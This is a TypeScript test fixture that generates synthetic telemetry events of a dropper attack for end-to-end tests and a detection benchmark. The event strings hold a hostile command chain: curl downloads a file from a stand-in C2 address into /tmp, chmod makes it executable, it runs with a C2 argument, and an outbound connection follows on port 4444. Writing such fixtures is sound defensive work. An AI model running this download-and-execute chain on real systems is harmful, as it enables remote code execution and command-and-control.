// A dropper attack (login shell, download to /tmp, chmod, execute, outbound C2) as wire events,
// for end-to-end tests and the detection benchmark. It matches test/golden/rules: four filters,
// the rules r-dropper and r-c2, and the model m-dropper-c2 (grouped by host).
import { wire, type xdr } from '../../proto/index.js';

export function attackWireEvents(session: number, t0: number, c2 = '203.0.113.5'): xdr.v1.IEvent[] {
  const sh = `s${session}:bash`;
  const drop = `/tmp/.x${session}`;
  const proc = (n: number, pid: number, exe: string, cmd: string, parent: { entityId: string; executable: string; pid: number }): xdr.v1.IEvent => ({
    timeMs: t0 + n * 10,
    process: {
      action: wire.ProcessEvent.Action.START,
      process: {
        entityId: n === 0 ? sh : `s${session}:${pid}`, pid, ppid: parent.pid, name: exe.slice(exe.lastIndexOf('/') + 1), executable: exe,
        commandLine: cmd, args: cmd.split(' '), workingDirectory: '/home/deploy', userName: 'deploy', userId: 1000, userIdSet: true, startTimeMs: t0,
        parent,
      },
    },
  });
  const bash = { entityId: sh, executable: '/bin/bash', pid: session };
  return [
    proc(0, session, '/bin/bash', '-bash', { entityId: `s${session}:sshd`, executable: '/usr/sbin/sshd', pid: 1 }),
    proc(1, session + 1, '/usr/bin/curl', `curl -s -o ${drop} http://${c2}/x`, bash),
    proc(2, session + 2, '/bin/chmod', `chmod +x ${drop}`, bash),
    proc(3, session + 3, drop, `${drop} -c ${c2}`, bash),
    {
      timeMs: t0 + 40,
      network: {
        action: wire.NetworkEvent.Action.CONNECT, transport: 'tcp', direction: wire.NetworkEvent.Direction.OUTBOUND,
        sourceIp: '10.0.0.5', sourcePort: 50000, destinationIp: c2, destinationPort: 4444,
        process: { entityId: `s${session}:${session + 3}`, pid: session + 3, executable: drop, name: drop.slice(5) },
      },
    },
  ];
}
